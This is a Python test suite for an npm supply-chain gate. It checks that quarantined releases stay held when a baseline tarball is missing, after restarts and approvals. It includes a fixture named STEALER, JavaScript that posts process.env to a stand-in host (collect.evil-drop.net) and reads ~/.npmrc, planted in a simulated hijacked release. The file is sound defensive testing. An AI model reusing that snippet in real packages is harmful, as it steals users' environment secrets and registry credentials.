#!/usr/bin/env python3
"""Evidence that is taken away: a verdict never becomes milder for want of something to compare with, and says what it waits for."""

import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
# pylint: disable=wrong-import-position
import case
import wire
from fixture_registry import FixtureRegistry, Package, Release, days_ago
from gate import Gate, environment, run

STEALER = """const env = JSON.stringify(process.env);
require('https').request('https://collect.evil-drop.net/in', {method: 'POST'}).end(env);
require('fs').readFileSync(require('os').homedir() + '/.npmrc');
"""
SETTINGS = {"packuments": {"fresh": "1s", "stale": "1h"}}


def hijacked(name):
    """1.2.0 is two days old and steals; what came before is old and harmless."""
    return Package(name, [Release("1.0.0", published=days_ago(400)), Release("1.1.0", published=days_ago(200)),
                          Release("1.2.0", published=days_ago(2), files={"lib/send.js": STEALER})])


class MissingEvidence(case.EndToEnd):
    """Each test has its own gate and registry."""

    def setUp(self):
        self.registry = self.enterContext(FixtureRegistry())

    def gate(self, policy=None):
        """A running gate with the built-in policy and a reviewer."""
        gate = self.enterContext(Gate(self.registry.url, policy=policy, settings=SETTINGS))
        gate.token = gate.command("token", "create", "rita", "--scope", "review").stdout.strip()
        return gate

    def quarantine(self, gate, *arguments):
        """`npm-gate quarantine ...`; must work."""
        done = run("quarantine", *arguments, "--admin", gate.admin_url, env=environment(NPM_GATE_TOKEN=gate.token))
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def metric(self, gate, name):
        """The value of a metric without labels; 0 where it is not there yet."""
        lines = wire.send(gate.admin_url, "/metrics").body.decode().splitlines()
        return next((float(line.split()[-1]) for line in lines if line.startswith(name + " ")), 0.0)

    def attack(self, fault):
        """Quarantined against 1.1.0; that is rejected; the tarball of 1.0.0, the next baseline, is not available."""
        name = f"stolen-{fault}"
        self.registry.add(hijacked(name))
        gate = self.gate()
        self.assertEqual(gate.versions(name), ["1.0.0", "1.1.0"])
        self.assert_refused(gate.tarball(name, "1.2.0"), "quarantined", "exfiltration")
        fault = self.registry.fault(f"/{name}/-/{name}-1.0.0.tgz", "status", status=fault)
        self.quarantine(gate, "reject", f"{name}@1.1.0", "--reason", "looks odd")
        return name, gate, fault

    def test_a_rejected_baseline_frees_nothing(self):
        """Held before and after the rejection, after a restart, and when the upstream is back."""
        for fault in (404, 503):
            with self.subTest(fault=fault):
                name, gate, told = self.attack(fault)
                for _ in range(2):
                    self.assertEqual(gate.versions(name), ["1.0.0"])
                    self.assert_refused(gate.tarball(name, "1.2.0"), "quarantined", "not compared with 1.0.0 yet")
                    self.assertIn("exfiltration", gate.command("explain", f"{name}@1.2.0").stdout)
                    gate.restart()
                self.assertTrue(wire.eventually(lambda n=name, g=gate: g.versions(n) == ["1.0.0"] and
                                                self.metric(g, "npm_gate_comparisons_waiting") == 1))
                shown = gate.command("explain", f"{name}@1.2.0").stdout
                self.assertIn("not compared with 1.0.0 yet", shown)
                page = gate.get(f"/-/npm-gate/releases/{name}/1.2.0", {"Accept": "text/html"}).body.decode()
                self.assertIn("not compared with 1.0.0 yet", page)
                # What the running gate knows beside: why it failed last.
                self.assertIn("answered 503" if fault == 503 else "is not in the registry", page)
                self.registry.heal(told)
                # Asked again on its own account: nobody requests anything meanwhile.
                self.assertTrue(wire.eventually(lambda g=gate: self.metric(g, "npm_gate_comparisons_waiting") == 0, 60))
                answer = self.assert_refused(gate.tarball(name, "1.2.0"), "quarantined", "exfiltration")
                self.assertNotIn("not compared", answer)
                self.assertNotIn("not compared", gate.command("explain", f"{name}@1.2.0").stdout)
                gate.stop()

    def test_never_compared_is_held_until_it_could_be(self):
        """An ordinary release with code that the baseline's tarball is needed for; free as soon as that is there."""
        files = {"net.js": "require('https').get('https://api.acme-example.com/v1');\n"}
        self.registry.add(Package("plain", [Release("1.0.0", published=days_ago(400), files=files),
                                            Release("1.1.0", published=days_ago(2), files=files)]))
        fault = self.registry.fault("/plain/-/plain-1.0.0.tgz", "status", status=503)
        gate = self.gate()
        self.assertEqual(gate.versions("plain"), ["1.0.0"])
        self.assert_refused(gate.tarball("plain", "1.1.0"), "quarantined", "not compared with 1.0.0 yet")
        gate.restart()
        self.assertEqual(gate.versions("plain"), ["1.0.0"])
        self.registry.heal(fault)
        self.assertTrue(wire.eventually(lambda: gate.versions("plain") == ["1.0.0", "1.1.0"], 60), gate.log_end())
        self.assertEqual(gate.tarball("plain", "1.1.0").status, 200)

    def test_what_was_compared_stays_served(self):
        """The baseline's tarball is gone upstream and the gate restarts: the comparison that was made counts."""
        files = {"net.js": "require('https').get('https://api.acme-example.com/v1');\n"}
        self.registry.add(Package("kept", [Release("1.0.0", published=days_ago(400), files=files),
                                           Release("1.1.0", published=days_ago(2), files=files)]))
        gate = self.gate()
        self.assertEqual(gate.versions("kept"), ["1.0.0", "1.1.0"])
        self.registry.fault("/kept/-/kept-1.0.0.tgz", "status", status=503)
        gate.restart()
        self.assertEqual(gate.versions("kept"), ["1.0.0", "1.1.0"])
        self.assertEqual(gate.tarball("kept", "1.1.0").status, 200)

    def test_an_approval_covers_the_hold(self):
        """Whatever the upstream says when it is asked again."""
        self.registry.add(hijacked("known"))
        fault = self.registry.fault("/known/-/known-1.1.0.tgz", "status", status=503)
        gate = self.gate()
        self.assert_refused(gate.tarball("known", "1.2.0"), "quarantined", "not compared with 1.1.0 yet")
        self.quarantine(gate, "approve", "known@1.2.0", "--reason", "read it")
        self.assertEqual(gate.tarball("known", "1.2.0").status, 200)
        self.registry.heal(fault)
        self.registry.fault("/known/-/known-1.1.0.tgz", "status", status=404)
        before = self.metric(gate, "npm_gate_comparisons_failed_total")
        self.assertTrue(wire.eventually(lambda: self.metric(gate, "npm_gate_comparisons_failed_total") > before, 60))
        self.assertEqual(gate.tarball("known", "1.2.0").status, 200)

    def test_a_release_waits_for_what_it_pins_of_its_own(self):
        """The parent is past its cooldown, its platform package, published minutes later, is not: both come together."""
        policy = "version: 1\nrules:\n  - { id: cooldown, when: { younger_than: 24h }, then: quarantine }\n"
        early, late = days_ago(1.01), days_ago(0.99)
        pins = {"optionalDependencies": {"tool-linux": "1.1.0"}, "dependencies": {"stranger": "2.0.0"}}
        self.registry.add(Package("tool", [Release("1.0.0", published=days_ago(300)), Release("1.1.0", published=early, manifest=pins)]))
        self.registry.add(Package("tool-linux", [Release("1.0.0", published=days_ago(300)), Release("1.1.0", published=late)]))
        # Somebody else's: nobody waits for it.
        self.registry.add(Package("stranger", [Release("1.0.0", published=days_ago(300), publisher="eve"),
                                               Release("2.0.0", published=late, publisher="eve")], maintainers=["eve"]))
        gate = self.gate(policy)
        self.assertEqual(gate.versions("tool"), ["1.0.0"])
        self.assert_refused(gate.tarball("tool", "1.1.0"), "quarantined until", "waits for tool-linux@1.1.0")
        gate.restart()
        self.assertEqual(gate.versions("tool"), ["1.0.0"])
        gate.tarball("tool-linux", "1.1.0")
        self.quarantine(gate, "approve", "tool-linux@1.1.0", "--reason", "needed today")
        self.assertEqual(gate.versions("tool"), ["1.0.0", "1.1.0"])
        self.assertEqual(gate.tarball("tool", "1.1.0").status, 200)


if __name__ == "__main__":
    case.main()
